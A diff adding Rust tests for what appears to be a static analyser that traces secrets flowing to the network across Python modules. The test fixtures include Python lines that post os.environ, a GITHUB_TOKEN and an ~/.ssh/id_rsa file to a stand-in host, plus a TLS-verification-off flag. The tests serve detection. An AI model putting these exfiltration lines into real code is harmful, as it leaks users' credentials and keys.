@@ -325,6 +325,94 @@ fn classes_constants_and_names_of_the_package_lead_on() {
 }
 
 #[test]
+fn whatever_another_module_makes_takes_data_to_a_sink() {
+    let class =
+        "import requests\nclass C:\n    def send(self, x):\n        requests.post('https://x.example.net', data=x)\n";
+    for (takes, call) in [
+        ("c = C()\n", "a.c.send"),
+        ("def make():\n    return C()\n", "a.make().send"),
+        ("c = C()\ngo = c\n", "a.go.send"),
+        ("send = lambda x: requests.post('https://x.example.net', data=x)\n", "a.send"),
+        ("def send(x):\n    requests.post('https://x.example.net', data=x)\ngo = send\n", "a.go"),
+        ("def send(x):\n    requests.post('https://x.example.net', data=x)\nT = {'s': send}\n", "a.T['s']"),
+        (
+            "def make(url):\n    def send(x):\n        requests.post(url, data=x)\n    return send\n",
+            "a.make('https://x.example.net')",
+        ),
+    ] {
+        let files = [("p/a.py", &*format!("{class}{takes}")), ("p/b.py", &*call_with_environment(call))];
+        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{call}");
+        let apart = [("p/a.py", &*format!("{class}{takes}")), ("p/b.py", "from . import a\nprint(a)\n")];
+        assert!(ways(&apart, "AL-FLOW-environment-to-network").is_empty(), "{call}");
+    }
+}
+
+fn call_with_environment(call: &str) -> String {
+    format!("import os\nfrom . import a\n{call}(dict(os.environ))\n")
+}
+
+#[test]
+fn whatever_another_module_keeps_data_in_gives_it() {
+    for (gives, read) in [
+        ("class C:\n    env = dict(os.environ)\n", "a.C.env"),
+        ("class C:\n    env = dict(os.environ)\n", "a.C().env"),
+        ("class C:\n    def __init__(self):\n        self.env = dict(os.environ)\n", "a.C().env"),
+        ("class C:\n    @property\n    def env(self):\n        return dict(os.environ)\n", "a.C().env"),
+        ("X = {}\nX['k'] = dict(os.environ)\n", "a.X['k']"),
+        ("X = {'k': dict(os.environ)}\n", "a.X['k']"),
+        ("X = []\nX.append(dict(os.environ))\n", "a.X[0]"),
+    ] {
+        let send = format!("import requests\nfrom . import a\nrequests.post('https://x.example.net', data={read})\n");
+        let files = [("p/a.py", &*format!("import os\n{gives}")), ("p/b.py", &send)];
+        assert_eq!(ways(&files, "AL-FLOW-environment-to-network").len(), 1, "{read} of {gives}");
+    }
+}
+
+#[test]
+fn a_property_of_the_same_file_gives_what_it_returns() {
+    let text = "import os, requests\nclass C:\n    @property\n    def env(self):\n        return dict(os.environ)\n\nrequests.post('https://x.example.net', data=C().env)\n";
+    assert_eq!(ways(&[("a.py", text)], "AL-FLOW-environment-to-network").len(), 1);
+}
+
+/// The rules that tell of the second of two files, of which the first holds a constant.
+fn told_by_constant(holds: &str, uses: &str) -> Vec<String> {
+    let found = findings(&[("p/a.py", holds), ("p/b.py", uses)]);
+    found.into_iter().filter(|finding| finding.file.as_deref() == Some("p/b.py")).map(|finding| finding.rule).collect()
+}
+
+#[test]
+fn paths_commands_and_flags_that_another_file_holds_are_known() {
+    let key = "import requests\nfrom .a import KEY\nrequests.post('https://x.example.net', data=open(KEY).read())\n";
+    let told = told_by_constant("KEY = '/home/u/' + '.ssh/id_rsa'\n", key);
+    assert!(told.contains(&"AL-FLOW-key-file-to-network".to_owned()), "{told:?}");
+    let told = told_by_constant("KEY = '/home/u/notes.txt'\n", key);
+    assert!(!told.contains(&"AL-FLOW-key-file-to-network".to_owned()), "{told:?}");
+
+    let variable =
+        "import os, requests\nfrom . import a\nrequests.post('https://x.example.net', data=os.environ[a.NAME])\n";
+    let told = told_by_constant("NAME = 'GITHUB_TOKEN'\n", variable);
+    assert!(told.contains(&"AL-FLOW-environment-to-network".to_owned()), "{told:?}");
+
+    let verify = "import requests\nfrom .a import VERIFY\nrequests.get('https://x.example.net', verify=VERIFY)\n";
+    let told = told_by_constant("VERIFY = False\n", verify);
+    assert!(told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");
+    let told = told_by_constant("VERIFY = True\n", verify);
+    assert!(!told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");
+
+    let command = "import os\nfrom .a import COMMAND\n\ndef run():\n    os.system(COMMAND)\n";
+    let told = told_by_constant("COMMAND = 'make clean; make all'\n", command);
+    assert!(!told.contains(&"AL-CODE-shell-injection".to_owned()), "a constant is none: {told:?}");
+}
+
+#[test]
+fn what_may_be_something_else_in_another_file_is_no_constant_of_it() {
+    let uses = "import requests\nfrom .a import VERIFY\nrequests.get('https://x.example.net', verify=VERIFY)\n";
+    let flag = "try:\n    import certifi as VERIFY\nexcept ImportError:\n    VERIFY = False\n";
+    let told = told_by_constant(flag, uses);
+    assert!(!told.contains(&"AL-CODE-tls-unverified".to_owned()), "{told:?}");
+}
+
+#[test]
 fn modules_without_an_end_of_the_flow_raise_no_alarm() {
     let config =
         "import os\n\nKEY = os.environ['SHOP_API_KEY']\n\ndef url(path):\n    return os.environ['SHOP_URL'] + path\n";
